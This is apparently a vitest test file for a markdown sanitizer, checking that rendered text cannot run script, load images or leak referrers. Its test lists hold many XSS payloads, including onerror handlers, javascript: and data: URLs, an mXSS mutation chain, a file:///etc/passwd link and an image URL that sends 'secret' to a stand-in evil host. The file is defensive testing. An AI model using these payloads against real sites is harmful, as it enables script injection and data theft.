import { describe, expect, test } from "vitest";
import { MarkdownDocument } from "../src/markdown/document.ts";
import { highlightCode } from "../src/markdown/languages.ts";
import { clean, cleanPieces, marksOnly, type Piece } from "../src/markdown/sanitize.ts";
import { shown } from "./shown.ts";

/** A text as it is shown. */
function page(markdown: string): HTMLElement {
  return shown(new MarkdownDocument().update(markdown));
}

describe("what a text can not do", () => {
  test.each([
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#x73;cript:alert(1))",
    "[x](\u0001javascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:x)",
    "[x](file:///etc/passwd)",
    "[x]: javascript:alert(1)\n\n[x]",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/?q=secret)",
    '![x](https://evil.example "t\\" onerror=alert(1)")',
    "<javascript:alert(1)>",
    '```js" onmouseover=alert(1)\nx\n```',
    "```<img src=x onerror=alert(1)>\n<script>alert(1)</script>\n```",
    "| <img src=x onerror=alert(1)> |\n|:-:|\n| [x](javascript:alert(1)) |",
    "<style>*{display:none}</style>",
    "<form action=/api/auth/logout><button>x</button></form>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "[x](/api/auth/logout)",
    "[x](//evil.example)",
  ])("%s", (markdown) => {
    const place = page(markdown);
    expect(place.querySelector("script, img, svg, iframe, style, form, math, object, input")).toBeNull();
    for (const element of place.querySelectorAll("*")) {
      for (const { name, value } of element.attributes) {
        expect(name).not.toMatch(/^(on|style|src|srcdoc|action|data)/);
        if (name === "href") expect(value).toMatch(/^(https?:|mailto:)/);
      }
    }
  });
});

test("links open elsewhere and tell nobody where from", () => {
  const link = page("[x](https://example.org/a?b=c)").querySelector("a");
  expect(link?.getAttribute("href")).toBe("https://example.org/a?b=c");
  expect(link?.target).toBe("_blank");
  expect(link?.rel).toBe("noopener noreferrer nofollow");
});

test("a picture is a link with its words: none is loaded", () => {
  const link = page("![a cat](https://example.org/cat.png)").querySelector("a");
  expect(link?.textContent).toBe("Image: a cat");
  expect(link?.getAttribute("href")).toBe("https://example.org/cat.png");
});

test("the alignment of a table is a class", () => {
  const cells = page("| a | b | c |\n|:-:|--:|---|\n| 1 | 2 | 3 |").querySelectorAll("td");
  expect([...cells].map((cell) => cell.outerHTML)).toEqual([
    '<td class="align-center">1</td>',
    '<td class="align-right">2</td>',
    "<td>3</td>",
  ]);
});

test("references to characters are read by their whole names", () => {
  const place = page("&amp; &copy; &ngE; &#35; &#x1F600; &semi; &notit; &bogus; &nbsp;| &lt;b&gt;");
  expect(place.textContent).toBe("& © ≧̸ # 😀 ; &notit; &bogus; \u00a0| <b>\n");
  expect(place.querySelector("b")).toBeNull();
});

test("code keeps every character and has a button to copy it", () => {
  const code = 'if (a < b && c > "d") {\n  \t`x`\n}\n';
  const place = page(`\`\`\`js\n${code}\`\`\``);
  expect(place.querySelector("pre")?.textContent).toBe(code);
  expect(place.querySelector("button")?.getAttribute("aria-label")).toBe("Copy the code");
});

test("coloured code is the same text, and harmless", () => {
  const code = '<script>alert("x")</script> & <b>';
  for (const language of ["xml", "javascript", "python", "bash", "json", "sql"]) {
    const place = document.createElement("div");
    place.innerHTML = clean(highlightCode(code, language)?.html ?? "");
    expect(place.textContent).toBe(code);
    expect(place.querySelector("script, b")).toBeNull();
  }
  expect(highlightCode("x", "no-such-language")).toBeUndefined();
});

describe("pieces are made harmless, each in its own place", () => {
  const HOSTILE = [
    "<img src=x onerror=alert(1)>a",
    "<script>alert(1)</script>b",
    '<a href="javascript:alert(1)">c</a>',
  ];
  const all = (tag: Piece["tag"], ...pieces: string[]) => cleanPieces(pieces.map((html) => ({ tag, html })));

  test.each(["div", "li", "span"] as const)("%s", (tag) => {
    expect(all(tag, ...HOSTILE)).toEqual(["a", "b", "<a>c</a>"]);
    expect(all(tag, "", "  x\n", "<strong>y</strong>")).toEqual(["", "  x\n", "<strong>y</strong>"]);
    expect(all(tag)).toEqual([]);
  });

  test("rows, and others among them", () => {
    const cells = '<td onclick="alert(1)" class="align-right"><img src=x onerror=alert(1)>a</td><td>d</td>';
    const pieces = [
      { tag: "tr", html: cells },
      { tag: "div", html: "<ul><li>x</li></ul>" },
      { tag: "li", html: "<div>y</div><ul><li>z</li></ul>" },
      { tag: "tr", html: "<td>e</td>" },
    ] as const;
    expect(cleanPieces(pieces)).toEqual([
      '<td class="align-right">a</td><td>d</td>',
      "<ul><li>x</li></ul>",
      "<div>y</div><ul><li>z</li></ul>",
      "<td>e</td>",
    ]);
  });

  test("one that breaks out takes no other's place", () => {
    const broken = all("li", "</li></ul><img src=x onerror=alert(1)>", "b", "c");
    expect(broken).toEqual(["", "b", "c"]);
  });
});

test("a snippet keeps its marks and nothing else", () => {
  expect(marksOnly('a <mark>b</mark> <img src=x onerror=alert(1)><mark onclick="x">c</mark>')).toBe(
    "a <mark>b</mark> <mark>c</mark>",
  );
  expect(marksOnly("&lt;script&gt;")).toBe("&lt;script&gt;");
});
